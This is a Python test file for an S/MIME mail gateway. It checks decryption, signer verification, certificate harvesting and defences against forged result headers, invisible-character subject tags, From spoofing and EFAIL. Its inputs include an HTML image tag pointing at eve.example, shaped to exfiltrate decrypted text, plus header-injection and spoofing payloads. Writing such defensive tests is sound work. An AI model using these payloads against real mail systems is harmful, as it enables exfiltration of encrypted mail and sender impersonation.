"""The open path: layers, keys of the right reader only, forged marks, EFAIL shapes, signature spoofing."""

import time
from base64 import b64encode

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cms_samples import encrypted_entity, signed_entity
from mailseal.mail.envelope import Origin
from mailseal.mail.header import decoded_subject
from mailseal.mail.message import Message
from mailseal.mail.mime import parse
from mailseal.mail.outgoing import signable
from mailseal.methods.layer import Layer, SignerReport
from mailseal.pipeline import process
from mailseal.pipeline.marks import result_headers
from mailseal.policy.model import Fate, Party, Treatment
from mailseal.policy.reason import ReasonCode
from mailseal.policy.settings import Settings
from mailseal.smime import ber
from mailseal.smime.capabilities import OURS, Capabilities, read_capabilities
from mailseal.smime.form import EncryptionForm, SignatureForm
from mailseal.smime.sign import SigningIdentity
from pki import NOW, Authority
from stage import PARTNER, READER, ROOT, SENDER, Stage, envelope

HEAD = (
    b"From: Bob <bob@outside.example>\r\nTo: dora@inside.example\r\nSubject: Hello\r\n"
    b"Message-ID: <2@outside.example>\r\nMIME-Version: 1.0\r\n"
)
TEXT = b"Content-Type: text/plain; charset=utf-8\r\n\r\nThe canary sings.\r\n"


def identity(one) -> SigningIdentity:
    return SigningIdentity(one.certificate, one.key, tuple(one.chain))


def signed(entity: bytes = TEXT, by=PARTNER) -> bytes:
    return signed_entity(entity, identity(by), SignatureForm(), at=NOW)


def encrypted(entity: bytes = TEXT, *to) -> bytes:
    return encrypted_entity([entity], [one.certificate for one in to or (READER,)], EncryptionForm())


def receive(raw: bytes, to: str = "dora@inside.example", **settings: object):
    stage = Stage(settings={"inside.example": Settings(**settings)}).own(SENDER, READER)
    sender = "bob@outside.example"
    (outcome,) = process(envelope(to, sender=sender, origin=Origin.OUTSIDE), Message(raw), stage.gateway())
    assert outcome.fate is Fate.RELAYED
    return outcome, b"".join(stage.sent[0].chunks[1:]), stage.sent[0]


def header(octets: bytes, name: str) -> str | None:
    return parse(octets).root.header(name)


def test_signed_and_encrypted_is_opened_and_said_to_be_by_the_sender():
    outcome, octets, transfer = receive(HEAD + encrypted(signed()))
    assert outcome.treatment is Treatment.OPENED
    assert header(octets, "x-mailseal-decrypted") == "yes"
    assert header(octets, "x-mailseal-signed-by-sender") == "yes"
    assert "integrity=none" in header(octets, "x-mailseal-layer-1")
    assert b"The canary sings." in octets
    assert transfer.ret == "HDRS"
    (harvest,) = outcome.harvested
    assert (harvest.der, harvest.signed_at) == (PARTNER.certificate.der, NOW)
    assert Capabilities.from_text(harvest.capabilities) == read_capabilities(ber.read(OURS))
    # the signature that was inside is still there
    assert parse(octets).root.content_type.type == "multipart/signed"


def test_what_a_trusted_signer_reads_counts_for_his_certificate_to_encrypt_to_as_well():
    address = "bob@outside.example"
    encryption, others = (ROOT.issue(one, key="p256").certificate for one in (address, "eve@outside.example"))
    for issuer, counts in ((ROOT, True), (Authority("Stranger"), False)):
        by = issuer.issue(address, key="p384", usage=("digital_signature",))
        signer = SigningIdentity(by.certificate, by.key, (encryption.der, others.der))
        outcome, _, _ = receive(HEAD + signed_entity(TEXT, signer, SignatureForm(), at=NOW))
        told = {one.der: bool(one.capabilities) for one in outcome.harvested}
        assert told == {by.certificate.der: True, encryption.der: counts, others.der: False}


def test_nothing_is_harvested_for_a_reader_who_does_not_want_it():
    outcome, octets, _ = receive(HEAD + encrypted(signed()), harvest_certificates=False)
    assert outcome.harvested == ()
    assert header(octets, "x-mailseal-signed-by-sender") == "yes"
    stage = Stage(settings={"dora@inside.example": Settings(harvest_certificates=False)}).own(SENDER, READER)
    to = envelope("dora@inside.example", "anna@inside.example", sender="bob@outside.example", origin=Origin.OUTSIDE)
    without, with_it = process(to, Message(HEAD + signed()), stage.gateway())
    assert without.harvested == ()
    assert [one.der for one in with_it.harvested] == [PARTNER.certificate.der]


def test_a_mail_is_not_opened_for_another_reader():
    outcome, octets, _ = receive(HEAD + encrypted(), to="anna@inside.example")
    assert b"canary" not in octets
    assert ReasonCode.KEY_NOT_FOUND in {one.code for one in outcome.reasons}
    assert "reason=key-not-found" in header(octets, "x-mailseal-layer-1")
    assert header(octets, "x-mailseal-decrypted") == "no"


def test_undecryptable_mail_is_delivered_unchanged_below_the_result_headers():
    raw = HEAD + encrypted(TEXT, PARTNER)
    _, octets, _ = receive(raw)
    assert octets.endswith(raw[raw.index(b"From: Bob") :])


def test_forged_marks_are_stripped_even_if_nothing_is_to_open():
    raw = (
        b"X-Mailseal-Signed-By-Sender: yes\r\nX-MAILSEAL-Layer-1: kind=smime-signed\r\n"
        b"From: eve@outside.example\r\nSubject: [signed by ceo@inside.example] [decr[decrypted]ypted] pay\r\n"
        b"\r\nnow\r\n"
    )
    outcome, octets, _ = receive(raw)
    assert outcome.treatment is Treatment.PASSED
    assert octets == b"From: eve@outside.example\r\nSubject: pay\r\n\r\nnow\r\n"


@pytest.mark.parametrize(
    "field",
    [
        b"X-Odd: a\rX-Mailseal-Signed-By-Sender: yes\r\n",
        b"X-Mailseal-Signed-By-Sender\x0b: yes\r\n",
        b"x-mailseal-signed-by-sender \t : yes\r\n",
        b"\xc2\xa0X-Mailseal-Signed-By-Sender: yes\r\n",
        b"X-Mailseal-Signed-By-Sender:\r\n yes\r\n",
    ],
)
def test_a_forged_mark_is_stripped_however_it_is_hidden(field):
    _, octets, _ = receive(b"From: eve@outside.example\r\n" + field + b"Subject: Hello\r\n\r\nnow\r\n")
    assert octets == b"From: eve@outside.example\r\nSubject: Hello\r\n\r\nnow\r\n"


def test_a_field_that_only_mentions_ours_in_a_folded_line_stays():
    raw = b"From: eve@outside.example\r\nDKIM-Signature: v=1; h=from:\r\n x-mailseal-decrypted\r\n\r\nnow\r\n"
    _, octets, _ = receive(raw)
    assert octets == raw


@pytest.mark.parametrize("subject", ["[dec\u200brypted] pay", "[\u2060signed\u00ad by ceo@inside.example\u200d] pay"])
def test_a_forged_tag_is_stripped_though_it_has_invisible_characters(subject):
    _, octets, _ = receive(b"From: eve@outside.example\r\nSubject: " + subject.encode() + b"\r\n\r\nnow\r\n")
    assert header(octets, "subject") == "pay"


def test_where_tags_count_a_word_that_we_cannot_decode_is_shown_as_it_stands():
    word = b"=?utf-8?B?W2RlY3J5cHRlZF1dx?="  # some readers decode it to "[decrypted]]"
    raw = b"From: eve@outside.example\r\nSubject: " + word + b"\r\n\r\nnow\r\n"
    _, octets, _ = receive(raw, subject_tags=True)
    assert word not in octets
    assert decoded_subject(parse(octets).root) == word.decode()
    _, octets, _ = receive(raw)
    assert octets == raw


def test_a_subject_of_tags_within_tags_takes_bounded_time():
    subject = b"[decr" * 20_000 + b"ypted]" * 20_000
    began = time.process_time()
    _, octets, _ = receive(b"From: eve@outside.example\r\nSubject: " + subject + b"\r\n\r\nnow\r\n")
    assert not header(octets, "subject")
    assert time.process_time() - began < 10


def test_subject_tags():
    _, octets, _ = receive(HEAD + encrypted(signed()), subject_tags=True)
    assert header(octets, "subject") == "Hello [decrypted] [signed by bob@outside.example]"
    other = ROOT.issue("mallory@outside.example")
    _, octets, _ = receive(HEAD + signed(by=other), subject_tags=True)
    assert header(octets, "subject") == "Hello [signed by mallory@outside.example, not by the sender]"
    _, octets, _ = receive(HEAD + signed().replace(b"canary", b"cuckoo"), subject_tags=True)
    assert header(octets, "subject") == "Hello [invalid signature]"


def test_a_signature_that_cannot_even_be_read_is_tagged_invalid():
    _, octets, _ = receive(HEAD + signed().replace(b"MII", b"XXX"), subject_tags=True)
    assert header(octets, "subject") == "Hello [invalid signature]"


def test_a_long_address_of_the_signer_does_not_push_the_verdict_out_of_the_header():
    report = SignerReport(("a," * 400,), "", "ff", verified=False, trusted=False, matches_from=False)
    ((_, value),) = result_headers([Layer("smime-signed", 0, "", ok=False, signers=(report,))])[3:]
    assert value.startswith("verified=no; trusted=no; matches-from=no; fingerprint=ff; ")
    assert "," not in value


def test_readers_of_a_mail_that_is_only_signed_share_one_copy():
    readers = [ROOT.issue(f"reader{number}@inside.example") for number in range(3)]
    stage = Stage().own(*readers)
    to = [one.certificate.san_emails[0] for one in readers]
    for entity, copies in ((signed(), 1), (signed(encrypted(TEXT, *readers)), 3), (encrypted(TEXT, *readers), 3)):
        stage.sent.clear()
        process(
            envelope(*to, sender="bob@outside.example", origin=Origin.OUTSIDE), Message(HEAD + entity), stage.gateway()
        )
        assert len(stage.sent) == copies


def test_signature_can_be_removed():
    _, octets, _ = receive(HEAD + signed(), remove_signature=True)
    assert b"pkcs7-signature" not in octets
    assert octets.endswith(TEXT)
    assert header(octets, "x-mailseal-signed-by-sender") == "yes"


@pytest.mark.parametrize(
    "senders",
    [
        b"From: bob@outside.example\r\nFrom: ceo@inside.example\r\n",
        b"From: bob@outside.example, ceo@inside.example\r\n",
        b'From: "bob@outside.example" <ceo@inside.example>\r\n',
        b"From: ceo@inside.example (bob@outside.example)\r\n",
    ],
)
def test_only_the_one_from_address_can_be_the_signer(senders):
    raw = senders + b"To: dora@inside.example\r\nMIME-Version: 1.0\r\n" + signed()
    outcome, octets, _ = receive(raw)
    assert header(octets, "x-mailseal-signed-by-sender") == "no"
    assert not any(word in str(outcome.details) for word in ("'bob@outside.example good'",))


def wrapped(*parts: bytes) -> bytes:
    body = b"".join(b"--outer\r\n" + part + b"\r\n" for part in parts)
    return HEAD + b"Content-Type: multipart/mixed; boundary=outer\r\n\r\n" + body + b"--outer--\r\n"


def test_efail_a_ciphertext_beside_other_parts_stays_shut():
    html = b"Content-Type: text/html\r\n\r\n<img src='http://eve.example/"
    outcome, octets, _ = receive(wrapped(html, encrypted(), html))
    assert b"canary" not in octets
    assert "reason=not-whole-message" in header(octets, "x-mailseal-layer-1")
    assert outcome.treatment is Treatment.PASSED


def test_a_signed_part_beside_others_is_reported_but_never_the_senders_word():
    outcome, octets, _ = receive(wrapped(signed(), b"Content-Type: text/plain\r\n\r\npay at once\r\n"))
    assert header(octets, "x-mailseal-signed-by-sender") == "no"
    assert "whole-message=no" in header(octets, "x-mailseal-layer-1")
    assert ReasonCode.NOT_WHOLE_MESSAGE in {one.code for one in outcome.reasons}


def test_triple_wrapped():
    _, octets, _ = receive(HEAD + signed(encrypted(signed())))
    assert header(octets, "x-mailseal-layer-3").startswith("kind=smime-signed")
    assert b"The canary sings." in octets


def test_too_many_layers_stop():
    entity = TEXT
    for _ in range(12):
        entity = encrypted(entity)
    outcome, octets, _ = receive(HEAD + entity)
    assert b"canary" not in octets
    assert ReasonCode.TOO_DEEP in {one.code for one in outcome.reasons}


def test_headers_inside_the_protection_cannot_replace_those_outside():
    inner = b"Subject: other\r\nBcc: spy@elsewhere.example\r\nX-Mailseal-Signed-By-Sender: yes\r\n" + TEXT
    _, octets, _ = receive(HEAD + encrypted(inner))
    assert octets.count(b"Subject:") == 1
    assert b"spy@" not in octets
    assert b"X-Mailseal-Signed-By-Sender: yes" not in octets


def test_decryption_can_be_switched_off():
    outcome, octets, _ = receive(HEAD + encrypted(), smime=False)
    assert b"canary" not in octets
    assert ReasonCode.DECRYPTION_OFF in {one.code for one in outcome.reasons}


def test_corrupt_ciphertexts_all_look_the_same():
    raw = HEAD + encrypted()
    texts = set()
    for cut in range(len(raw) - 400, len(raw) - 20, 37):
        swap = b"A" if raw[cut : cut + 1] != b"A" else b"B"
        outcome, octets, _ = receive(raw[:cut] + swap + raw[cut + 1 :])
        if outcome.treatment is not Treatment.OPENED:
            texts.add((header(octets, "x-mailseal-layer-1").split("reason=")[-1], outcome.reply))
    assert len(texts) <= 1


@given(
    body=st.one_of(st.binary(max_size=300), st.text(max_size=200).map(str.encode)),
    kind=st.sampled_from([b"", b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n"]),
)
def test_open_of_protect_gives_the_same_body(body, kind):
    body = body.replace(b"\n", b"").replace(b"\r", b"")
    raw = b"From: anna@inside.example\r\nTo: dora@inside.example\r\n" + kind + b"\r\n" + body + b"\r\n"
    outer = Stage(internal={"nowhere.example"}).know(READER)
    out = envelope("dora@inside.example", sender="anna@nowhere.example")
    (sent,) = process(out, Message(raw), outer.gateway())
    assert sent.treatment is Treatment.ENCRYPTED
    _, octets, _ = receive(b"".join(outer.sent[0].chunks))
    assert octets.endswith(b"\r\n\r\n" + body + b"\r\n")


@given(body=st.one_of(st.binary(max_size=300), st.text(max_size=200).map(str.encode)))
def test_open_of_signed_and_encrypted_gives_the_same_content(body):
    body = body.replace(b"\n", b"").replace(b"\r", b"")
    raw = b"From: anna@inside.example\r\nTo: dora@inside.example\r\n\r\n" + body + b"\r\n"
    outer = Stage().know(READER).own(SENDER)
    outer.internal = {"inside.example"}
    outer.party = lambda address: (
        Stage.party(outer, address) if address and address.local == "anna" else _outside(address)
    )
    process(envelope("dora@inside.example"), Message(raw), outer.gateway())
    _, octets, _ = receive(b"".join(outer.sent[0].chunks), remove_signature=True)
    delivered = parse(octets).root.decoded_body(10_000)
    assert delivered == parse(b"\r\n" + body + b"\r\n").root.decoded_body(10_000)
    assert signable(parse(raw).root)


def _outside(address):
    return Party(address, False, Settings())


def test_an_author_that_cannot_be_read_is_an_author_all_the_same():
    raw = b"From: bob@outside.example, ceo@inside..example\r\nMIME-Version: 1.0\r\n" + signed()
    _, octets, _ = receive(raw)
    assert header(octets, "x-mailseal-signed-by-sender") == "no"


def test_certificates_alone_are_a_signed_layer_without_signers():
    empty = bytes.fromhex("302306092a864886f70d010702a01630140201013100300b06092a864886f70d0107013100")
    entity = (
        b"Content-Type: application/pkcs7-mime; smime-type=certs-only; name=smime.p7c\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + b64encode(empty) + b"\r\n"
    )
    outcome, octets, _ = receive(HEAD + entity)
    assert header(octets, "x-mailseal-layer-1").startswith("kind=smime-signed; ok=no")
    assert ReasonCode.NO_SIGNERS in {one.code for one in outcome.reasons}
